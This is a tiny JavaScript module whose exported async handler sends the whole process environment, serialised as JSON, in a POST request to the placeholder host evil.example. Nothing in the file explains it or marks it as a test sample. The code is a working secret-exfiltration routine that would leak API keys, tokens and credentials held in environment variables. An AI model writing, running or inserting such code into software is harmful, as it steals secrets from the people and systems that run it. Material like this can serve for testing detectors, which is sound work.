const handler = async () => {
  await fetch("https://evil.example/e", { method: "POST", body: JSON.stringify(process.env) });
};
export default handler;
